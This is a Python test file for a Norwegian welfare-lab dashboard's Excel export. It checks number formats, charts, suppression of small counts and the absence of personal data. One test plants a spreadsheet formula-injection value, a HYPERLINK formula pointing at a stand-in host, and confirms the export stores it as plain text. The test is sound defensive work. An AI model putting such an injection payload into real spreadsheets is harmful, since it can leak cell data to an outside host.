"""The portfolio workbook as a leader opens it: Norwegian, typed, formatted, and safe to open."""

from __future__ import annotations

import datetime as dt
import io
import os
import zipfile
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from openpyxl.workbook import Workbook
from sqlalchemy.orm import scoped_session

from tests.factories import add_assessment, make_family, make_lab
from tests.portfolio_fixture import make_portfolio
from tests.web.test_login import login


def workbook(client: FlaskClient, query: str = "as_of=2025-09-30", save: str = "") -> Workbook:
    response = client.get(f"/dashboard.xlsx?{query}")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    if save:  # the file and its chart pictures, for a person to look at
        folder = Path(os.environ.get("VELFERDSLAB_ARTIFACTS", "test-artifacts")) / "excel"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"{save}.xlsx").write_bytes(response.data)
        with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
            for name in archive.namelist():
                if name.startswith("xl/media/"):
                    (folder / f"{save}-{Path(name).name}").write_bytes(archive.read(name))
    return load_workbook(io.BytesIO(response.data))


def every_value(book: Workbook) -> list[Any]:
    return [
        value
        for sheet in book.worksheets
        for row in sheet.iter_rows(values_only=True)
        for value in row
        if value is not None
    ]


def test_the_leaders_workbook_is_norwegian_typed_and_formatted(
    client: FlaskClient, db: scoped_session
) -> None:
    portfolio = make_portfolio(db)
    login(client, portfolio.lab.leader.username)
    book = workbook(client, save="portfolio-leader")
    assert book.sheetnames[0] == "Nøkkeltall" and book.sheetnames[-1] == "Om tallene"
    charts = book["Diagrammer"]._charts  # the dashboard's charts, as Excel's own
    assert [type(chart).__name__ for chart in charts] == [
        "LineChart",
        "BarChart",
        "BarChart",
        "BarChart",
    ]
    assert "Stabil eller bedre" in book.sheetnames

    key = book["Nøkkeltall"]
    assert key.freeze_panes == "A2" and key["A1"].value == "Tall" and key["A1"].font.bold
    figures = {row[0].value: row[1] for row in key.iter_rows(min_row=2) if row[0].value}
    date = figures["Verdsettingsdato"]
    assert date.value == dt.datetime(2025, 9, 30) and date.number_format == "DD.MM.YYYY"
    assert figures["Familier"].value == 12 and figures["Familier"].number_format == "#,##0"
    spending = figures["Forbruk"]
    assert spending.value == 200_000 and spending.number_format == '#,##0" kr"'
    assert key.column_dimensions["A"].width > 30

    # The lead chart's figures by hand: 0 of 12, 5 of 12, 6 of 12 at stable or better.
    share = book["Stabil eller bedre"]
    assert [c.value for c in share[1]] == [
        "Kvartalsslutt",
        "Kartlagte familier",
        "Stabil eller bærekraftig",
        "Andel",
    ]
    rows = list(share.iter_rows(min_row=2, max_row=4))
    assert [r[0].value.date() for r in rows] == [
        dt.date(2025, 3, 31),
        dt.date(2025, 6, 30),
        dt.date(2025, 9, 30),
    ]
    assert [(r[1].value, r[2].value) for r in rows] == [(12, 0), (12, 5), (12, 6)]
    assert rows[1][3].value == round(5 / 12, 4) and rows[1][3].number_format == "0.0 %"

    # Levels per quarter: Q1 in four levels; Q2 and Q3 in the two groups, none hidden.
    levels = book["Nivåer per kvartal"]
    header = [c.value for c in levels[1]]
    assert header[:5] == ["Kvartalsslutt", "uholdbar", "utsatt", "stabil", "bærekraftig"]
    values = [[c.value for c in row] for row in levels.iter_rows(min_row=2, max_row=4)]
    assert values[0][1:5] == [6, 6, 0, 0]
    assert values[1][1:5] == [None] * 4 and values[1][5:8] == [7, 5, 12]
    assert values[2][5:8] == [6, 6, 12]

    transitions = book["Fra utgangspunkt til nå"]
    cells = [[c.value for c in row] for row in transitions.iter_rows(min_row=2, max_row=3)]
    assert cells == [
        ["under stabil (uholdbar eller utsatt)", 6, 6, 12],
        ["stabil eller bærekraftig", 0, 0, 0],
    ]

    about_sheet = book["Om tallene"]
    about = {row[0].value: row[1].value for row in about_sheet.iter_rows(min_row=2) if row[0].value}
    assert about["Forutsetningssett"] == "Velferdslab standard"
    assert about["Versjon"] == 1 and about["Verdsettingsdato"] == dt.datetime(2025, 9, 30)
    assert "færre enn 5 familier" in about["Skjuling av små tall"]
    assert "suksessrate" in about["Illustrative verdier"]
    # No API key, no True/False and no family or person anywhere.
    text = [str(v) for v in every_value(book)]
    assert not {"True", "False", "fiscal_npv", "success_rate", "unsustainable"} & set(text)
    assert not any(f.reference in t for f in portfolio.families for t in text)
    assert not any("Kari Nordmann" in t for t in text)


def test_a_suppressed_cell_is_a_dash_never_its_number(
    client: FlaskClient, db: scoped_session
) -> None:
    lab = make_lab(db)
    for level in (0, 0, 2):  # three families: every count is small
        family = make_family(db, lab)
        add_assessment(db, family, dt.date(2025, 1, 15), housing=0)
        add_assessment(db, family, dt.date(2025, 5, 15), housing=level)
    login(client, lab.leader.username)
    book = workbook(client)
    share = [
        [c.value for c in row]
        for row in book["Stabil eller bedre"].iter_rows(min_row=2)
        if isinstance(row[0].value, dt.datetime)
    ]
    assert share[0][1:] == ["–", "–", "–"] and share[-1][1:] == ["–", "–", "–"]
    key = {r[0].value: r[1].value for r in book["Nøkkeltall"].iter_rows(min_row=2) if r[0].value}
    assert key["Familier"] == "–" and key["Stabil eller bærekraftig nå"] == "–"
    numbers = [
        value
        for sheet in book.worksheets
        if sheet.title != "Om tallene"
        for row in sheet.iter_rows(min_row=2, values_only=True)
        for value in row
        if isinstance(value, int | float) and not isinstance(value, bool)
    ]
    assert not {1, 2, 3} & set(numbers)  # no count of these few families, in any sheet


def test_text_is_never_a_formula_and_english_when_chosen(
    client: FlaskClient, db: scoped_session
) -> None:
    portfolio = make_portfolio(db)
    portfolio.lab.nav.name = '=HYPERLINK("http://x"&B2,"x")'
    db.flush()
    login(client, portfolio.lab.auditor.username)
    with client.session_transaction() as session:
        session["language"] = "en"
    book = workbook(client)
    invests = book["Who invests"]
    cell = invests["A2"]
    assert cell.value == '=HYPERLINK("http://x"&B2,"x")' and cell.data_type == "s"
    formulas = [
        c.coordinate
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    assert formulas == []
    key = {r[0].value: r[1] for r in book["Key figures"].iter_rows(min_row=2) if r[0].value}
    assert key["Spending"].number_format == '"NOK "#,##0'


def test_the_workbooks_charts_are_excels_own_and_read_the_dashboards_figures(
    client: FlaskClient, db: scoped_session
) -> None:
    """Native charts a leader can restyle and copy: each reads a table beside it with the
    hand-counted figures; a hidden figure is an empty cell (a gap), never a zero."""
    portfolio = make_portfolio(db)
    login(client, portfolio.lab.leader.username)
    book = workbook(client, save="portfolio-charts")
    sheet = book["Diagrammer"]
    line, levels, domains, tornado = sheet._charts

    def table(chart: Any) -> list[list[Any]]:
        """The cells a chart reads: its categories beside each series' values."""
        rows = []
        for series in chart.series:
            reference = series.val.numRef.f  # 'Diagrammer'!$B$3:$B$5
            columns, _, span = reference.partition("!")[2].replace("$", "").partition(":")
            rows.append([cell.value for row in sheet[f"{columns}:{span}"] for cell in row])
        return rows

    def titles(chart: Any) -> list[str]:
        return [sheet[s.tx.strRef.f.split("!")[1].replace("$", "")].value for s in chart.series]

    # The share at stable or better: 0 of 12, 5 of 12, 6 of 12.
    assert titles(line) == ["andel stabil eller bærekraftig"]
    assert table(line)[0] == pytest.approx([0.0, 5 / 12, 0.5], abs=5e-5)  # shares to 4 places
    # Per quarter: March in levels, June and September in groups (levels would hide 3 and 4).
    assert titles(levels) == [
        "uholdbar",
        "utsatt",
        "stabil",
        "bærekraftig",
        "under stabil (uholdbar eller utsatt)",
        "stabil eller bærekraftig",
    ]
    assert table(levels) == [
        [6, None, None],
        [6, None, None],
        [0, None, None],
        [0, None, None],
        [None, 7, 6],
        [None, 5, 6],
    ]
    assert levels.grouping == "stacked" and levels.type == "col" and domains.type == "bar"
    # Sensitivity: each assumption's swing from the base value, in millions, widest on top.
    swings = table(tornado)
    assert len(swings) == 2 and all(isinstance(v, int | float) for v in swings[0] + swings[1])
    sizes = [abs(high - low) for low, high in zip(*swings, strict=True)]
    assert sizes == sorted(sizes, reverse=True)
    # The levels have patterns besides colour, for print without colour.
    first = levels.series[0].graphicalProperties
    assert first.pattFill is not None and first.pattFill.bgClr.srgbClr == "B3261E"
